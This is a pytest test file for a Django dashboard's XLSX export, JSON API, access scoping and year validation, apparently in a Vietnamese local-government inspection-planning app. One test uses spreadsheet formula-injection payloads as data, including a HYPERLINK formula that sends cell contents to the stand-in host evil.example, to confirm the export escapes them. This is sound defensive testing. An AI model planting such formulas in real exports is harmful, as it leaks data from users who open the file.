import datetime
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from lanhmanh.core.testing import login_verified

pytestmark = pytest.mark.django_db


def test_the_dashboard_exports_its_tables_to_xlsx(client, people, province_plan):
    client.force_login(people.province_officer)
    response = client.get(reverse("dashboards:unit", args=[people.province.code]), {"format": "xlsx"})
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert 'filename="bang-dieu-khien-31-2026.xlsx"' in response["Content-Disposition"]
    book = load_workbook(io.BytesIO(response.content))
    assert book.sheetnames == ["Chỉ tiêu", "Đơn vị cấp dưới", "Nhiệm vụ"]
    targets = book["Chỉ tiêu"]
    assert targets["A1"].value == "Thành phố Hải Phòng — năm 2026 (số liệu đến ngày 05/04/2026)"
    assert targets["A2"].value == "Chỉ tiêu" and targets["E2"].value == "Thực hiện"
    first = [c.value for c in targets[3]]
    assert first[:6] == ["Tổ chức ít nhất 12 buổi kiểm tra liên ngành", "INSP_SESSIONS", "≥ 12", 12, 3, 3]
    assert first[8] == "Đúng tiến độ"
    tips = [c for c in targets[4]]
    assert tips[3].value == 1.0 and tips[3].number_format == "0.0%"  # the goal 100%
    assert tips[4].value == "Chưa có số liệu"
    children = book["Đơn vị cấp dưới"]
    assert children["B2"].value == "Tổ chức ít nhất 12 buổi kiểm tra liên ngành — Thực hiện"
    assert [c.value for c in children[3]][:3] == ["Phường Hồng Bàng", 3, "Đúng tiến độ"]
    assert [c.value for c in children[4]][:3] == ["Phường Ngô Quyền", 0, "Chậm tiến độ"]
    tasks = book["Nhiệm vụ"]
    assert [c.value for c in tasks[3]] == ["Ban hành kế hoạch kiểm tra liên ngành",
                                          "Lãnh đạo, chỉ đạo, xây dựng kế hoạch", "Công an thành phố",
                                          "01/03/2026", "Đang thực hiện", "Quá hạn"]


def test_the_api_gives_the_targets_marks_and_children(client, people, province_plan):
    client.force_login(people.province_officer)
    data = client.get(reverse("dashboards:api", args=[people.province.code]), {"year": 2026}).json()
    assert data["unit"] == "31" and data["year"] == 2026 and data["today"] == "2026-04-05"
    assert data["plan"]["reference"] == "35/KH-UBND"
    sessions = data["targets"][0]
    assert sessions["indicator"] == "INSP_SESSIONS" and sessions["goal"] == 12 and sessions["actual"] == 3
    assert sessions["expected"] == 3
    assert sessions["mark"] == "on_track" and sessions["mark_label"] == "Đúng tiến độ"
    assert sessions["records_url"].startswith("/inspections/inspectionsession/?")
    assert data["targets"][1]["actual"] is None and data["targets"][1]["mark"] == "no_data"
    children = {c["unit"]: c for c in data["children"]}
    assert children["11311"]["targets"][0]["actual"] == 3 and children["11311"]["targets"][0]["mark"] == "on_track"
    assert children["11329"]["targets"][0]["mark"] == "off_track"
    assert [t["title"] for t in data["tasks"]] == ["Ban hành kế hoạch kiểm tra liên ngành",
                                                   "Kiểm tra các cơ sở karaoke trên địa bàn"]
    assert data["tasks"][0]["overdue"] is True


def test_the_api_gives_key_indicators_without_a_plan_and_checks_scoping(client, people, province_plan):
    login_verified(client, people.support_worker)
    data = client.get(reverse("dashboards:api", args=[people.commune_a.code])).json()
    assert data["plan"] is None and data["targets"] == []
    assert {v["indicator"]: v["value"] for v in data["values"]}["INSP_SESSIONS"] == 3
    assert client.get(reverse("dashboards:api", args=[people.province.code])).status_code == 404
    client.force_login(people.officer_b)
    assert client.get(reverse("dashboards:api", args=[people.commune_a.code])).status_code == 404
    assert client.get(reverse("dashboards:api", args=[people.commune_b.code]), {"year": "abc"}).status_code == 400


def test_a_unit_without_a_plan_exports_its_key_indicators(client, people, today):
    from lanhmanh.dashboards.tests.conftest import sessions

    sessions(people.commune_b, datetime.date(2026, 2, 2))
    client.force_login(people.province_officer)
    response = client.get(reverse("dashboards:unit", args=[people.province.code]), {"format": "xlsx"})
    book = load_workbook(io.BytesIO(response.content))
    assert book.sheetnames == ["Chỉ số", "Đơn vị cấp dưới"]
    figures = {r[1].value: r for r in book["Chỉ số"].iter_rows(min_row=3)}
    assert figures["INSP_SESSIONS"][2].value == 1
    assert figures["TIPS_ON_TIME_PCT"][2].value == "Chưa có số liệu"
    children = book["Đơn vị cấp dưới"]
    assert children["B2"].value == "Cơ sở kinh doanh dịch vụ thuộc diện quản lý"
    assert [r[0].value for r in children.iter_rows(min_row=3)] == ["Phường Hồng Bàng", "Phường Ngô Quyền"]


def test_a_user_seeing_several_units_chooses_a_dashboard(client, people):
    from lanhmanh.accounts.models import Membership
    from lanhmanh.accounts.roles import Role

    Membership.objects.create(user=people.officer_a, unit=people.commune_b, role=Role.VIEWER)
    client.force_login(people.officer_a)
    html = client.get(reverse("dashboards:mine")).content.decode()
    assert f'href="{reverse("dashboards:unit", args=["11311"])}"' in html
    assert f'href="{reverse("dashboards:unit", args=["11329"])}"' in html


@pytest.mark.parametrize("year", ["1999", "2028", "0", "99999", "²", "2026.0", "-1"])
def test_the_api_refuses_far_years_with_a_message(client, people, province_plan, year):
    client.force_login(people.province_officer)
    response = client.get(reverse("dashboards:api", args=[people.province.code]), {"year": year})
    assert response.status_code == 400
    assert response.json() == {"year": "Năm không hợp lệ: hãy chọn năm từ 2000 đến 2027."}


@pytest.mark.parametrize("year", ["1999", "2028", "0", "99999", "²"])
def test_the_dashboard_ignores_far_years(client, people, province_plan, year):
    client.force_login(people.province_officer)
    url = reverse("dashboards:unit", args=[people.province.code])
    response = client.get(url, {"year": year})
    assert response.status_code == 200 and response.context["board"].year == 2026
    if year.isascii():
        assert "Hãy chọn năm từ 2000 đến 2027." in response.content.decode()
    export = client.get(url, {"year": year, "format": "xlsx"})
    assert 'filename="bang-dieu-khien-31-2026.xlsx"' in export["Content-Disposition"]


def test_the_dashboard_of_the_first_year_has_no_previous_year(client, people, province_plan):
    client.force_login(people.province_officer)
    url = reverse("dashboards:unit", args=[people.province.code])
    assert client.get(url, {"year": 2000}).context["previous_year_url"] is None
    assert client.get(url, {"year": 2001}).context["previous_year_url"] == f"{url}?year=2000"


def test_the_export_writes_typed_text_as_text_not_formulas(client, people, province_plan):
    from lanhmanh.dashboards.tests.conftest import make_task
    from lanhmanh.geo.tests.factories import AgencyFactory

    injected = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
    target = province_plan.targets.get(order=1)
    target.text = injected
    target.save()
    people.commune_a.name = "=1+2"
    people.commune_a.save()
    make_task(province_plan, "+SUM(1,2)", lead_agency=AgencyFactory(name="@cmd", unit=people.province),
              deadline=datetime.date(2026, 4, 25))
    client.force_login(people.province_officer)
    response = client.get(reverse("dashboards:unit", args=[people.province.code]), {"format": "xlsx"})
    book = load_workbook(io.BytesIO(response.content))
    first = book["Chỉ tiêu"]["A3"]
    assert first.value == injected and first.data_type == "s"
    header = book["Đơn vị cấp dưới"]["B2"]
    assert header.value == f"{injected} — Thực hiện" and header.data_type == "s"
    names = {c.value: c.data_type for c in book["Đơn vị cấp dưới"]["A"]}
    assert names["=1+2"] == "s"
    tasks = {c.value: c.data_type for row in book["Nhiệm vụ"].iter_rows(min_row=3) for c in row}
    assert tasks["+SUM(1,2)"] == "s" and tasks["@cmd"] == "s"
    assert not any(c.data_type == "f" for ws in book.worksheets for row in ws.iter_rows() for c in row)
